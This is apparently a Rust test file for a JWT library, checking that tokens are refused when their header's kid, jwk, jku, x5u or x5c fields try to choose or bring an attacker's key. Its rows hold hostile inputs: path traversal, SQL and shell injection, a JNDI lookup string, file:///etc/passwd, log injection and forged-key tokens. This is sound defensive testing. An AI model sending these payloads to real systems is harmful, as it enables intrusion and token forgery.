//! The header as a pointer: `kid`, and the members that bring or name a key of the attacker's.

use auth_jwt::Algorithm;
use serde_json::{Value, json};

use crate::support::{honest_claims, sign};
use crate::{Row, STRANGER, header_with, key, refused, row, with_header};

#[test]
fn a_token_does_not_choose_its_key() {
    refused(rows());
}

pub(crate) fn rows() -> Vec<Row> {
    let kid = |kid: &str| with_header(header_with("kid", json!(kid)));
    let typed = |kid: Value| with_header(header_with("kid", kid));
    let code = "unknown_key";
    let mut rows = vec![
        row("kid is a path", code, kid("../../../../../../dev/null")),
        row(
            "kid is a path with a NUL",
            code,
            kid("ES256\0/../../planted.pem"),
        ),
        row(
            "kid is a SQL injection",
            code,
            kid("planted' UNION SELECT 'secret' -- "),
        ),
        row(
            "kid is a shell injection",
            code,
            kid("planted|/usr/bin/id;`id`"),
        ),
        row(
            "kid is a template",
            code,
            kid("${jndi:ldap://planted.test/a}"),
        ),
        row(
            "kid is an address",
            code,
            kid("https://planted.test/jwks.json"),
        ),
        row("kid is a file address", code, kid("file:///etc/passwd")),
        row(
            "kid breaks a log line",
            code,
            kid("planted\r\nlevel=INFO msg=accepted"),
        ),
        row("kid of 10,000 bytes", code, kid(&"planted-".repeat(1250))),
        row("kid is empty", code, kid("")),
        row(
            "kid of a key nobody has (GHSA-2gx3-rcp4-g85q)",
            code,
            kid("planted-unknown-kid"),
        ),
        row("kid in another case", code, kid("es256")),
        row("kid and a space", code, kid("ES256 ")),
        row("kid and a NUL", code, kid("ES256\0")),
        row("kid with a full-width letter", code, kid("ＥS256")),
        row("kid is a prefix of a known one", code, kid("ES25")),
        row(
            "kid of a key of another type",
            "alg_not_allowed",
            kid("RS256"),
        ),
        row(
            "kid of a key of another curve",
            "alg_not_allowed",
            kid("ES384"),
        ),
        row("kid of a shared secret", "alg_not_allowed", kid("HS256")),
        row("kid is a number", "malformed", typed(json!(256))),
        row("kid is null", "malformed", typed(json!(null))),
        row("kid is a boolean", "malformed", typed(json!(true))),
        row("kid is a list", "malformed", typed(json!(["ES256"]))),
        row(
            "kid is an object",
            "malformed",
            typed(json!({ "ES256": true })),
        ),
    ];
    rows.extend(brought());
    rows
}

/// A stranger signs, and the header brings the stranger's key or says where to get it.
fn brought() -> Vec<Row> {
    let code = "bad_signature";
    let jwk = STRANGER.public_jwk().unwrap();
    let by_stranger = |header: String| sign(&STRANGER, header, honest_claims().to_string());
    let brings = |name: &str, value: Value| by_stranger(header_with(name, value));
    let nameless = json!({ "alg": "ES256", "jwk": jwk }).to_string();
    let pem = STRANGER.public_pem().unwrap();
    let certificate: String = pem.lines().filter(|line| !line.starts_with('-')).collect();
    let secret = json!({ "alg": "HS256", "kid": "HS256", "jwk": { "kty": "oct", "k": "" } });
    let by_empty_secret = crate::hs256(
        b"",
        &format!(
            "{}.{}",
            crate::support::encode(secret.to_string()),
            crate::support::encode(honest_claims().to_string())
        ),
    );
    let by_another = |other: Algorithm| {
        let header = json!({ "alg": other.name(), "kid": "ES256" });
        sign(key(other), header.to_string(), honest_claims().to_string())
    };
    vec![
        row(
            "a key in the header (CVE-2018-0114)",
            code,
            brings("jwk", jwk.clone()),
        ),
        row(
            "a key in the header, and no kid",
            code,
            by_stranger(nameless),
        ),
        row("a secret in the header", code, by_empty_secret),
        row(
            "jku of the stranger's",
            code,
            brings("jku", json!("https://planted.test/jwks")),
        ),
        row(
            "jku with the issuer's name in it",
            code,
            brings("jku", json!("https://issuer.test@planted.test/jwks")),
        ),
        row(
            "jku of a file (GHSA-993g-76c3-p5m4)",
            code,
            brings("jku", json!("file:///tmp/planted.json")),
        ),
        row(
            "x5u of the stranger's",
            code,
            brings("x5u", json!("https://planted.test/chain.pem")),
        ),
        row(
            "x5c with the stranger's key",
            code,
            brings("x5c", json!([certificate])),
        ),
        row(
            "x5t#S256 of the stranger's",
            code,
            brings("x5t#S256", json!("cGxhbnRlZC10aHVtYnByaW50")),
        ),
        row(
            "the right sub, the wrong key",
            code,
            STRANGER.sign(&honest_claims()).unwrap().expose(),
        ),
        row(
            "another key's token under this kid",
            "alg_not_allowed",
            by_another(Algorithm::ES384),
        ),
        row(
            "a shared secret's token under this kid",
            "alg_not_allowed",
            by_another(Algorithm::HS256),
        ),
    ]
}
